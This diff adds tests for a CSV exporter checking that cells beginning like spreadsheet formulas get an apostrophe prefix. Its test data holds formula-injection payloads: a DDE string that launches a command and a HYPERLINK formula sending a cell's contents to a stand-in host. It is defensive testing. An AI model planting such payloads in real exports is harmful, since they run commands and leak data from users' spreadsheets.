@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { Dice } from '../testing/dice.ts';
 import { asCsv } from './csv.ts';
@@ -16,6 +17,31 @@ test('CSV has the same bytes as the library csv-stringify makes, for any texts a
   const record = () => ({ id: text(), name: text(), count: dice.pick(NUMBERS) ?? 0 });
   const steps = Array.from({ length: 200 }, () => Array.from({ length: dice.upTo(40) }, record));
   assert.deepEqual(await csvOf(steps), Buffer.from(libraryCsvOf(steps.flat())));
+});
+
+/** Characters that begin a formula, also as Chinese and Japanese keyboards write them. */
+const STARTS = [...'=+-@\t\r＝＋－＠'];
+const RESTS = ['', '1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://elsewhere.example/?"&A1,"x")'];
+const PLAIN = ['ana', 'a=b', '"', ',', ';1+1', 'a; "b"', 'a\r\nb', "'=1", ' =1', '名前', '1e9'];
+
+test('each formula gets an apostrophe, and each other text is read back unchanged', async () => {
+  const formulas = STARTS.flatMap((start) => RESTS.map((rest) => start + rest));
+  const records = [...formulas, ...PLAIN].map((id) => ({ id, name: 'a', count: 1 }));
+  const csv = String(await csvOf([records]));
+  const read = parse(csv, { columns: true, record_delimiter: '\r\n' }) as { id: string }[];
+  assert.deepEqual(
+    read.map(({ id }) => id),
+    [...formulas.map((formula) => `'${formula}`), ...PLAIN],
+  );
+});
+
+test('a formula inside a text gets an apostrophe if a spreadsheet may split the text there', async () => {
+  for (const cut of [';', ';"', ';""', '\t', '\r\n']) {
+    for (const start of STARTS.filter((start) => start.trim() !== '')) {
+      const csv = String(await csvOf([[{ id: `a${cut}${start}1+1`, name: 'a', count: 1 }]]));
+      assert.ok(csv.includes(`'${start}1+1`), JSON.stringify(csv));
+    }
+  }
 });
 
 test('CSV without records has a header', async () => {
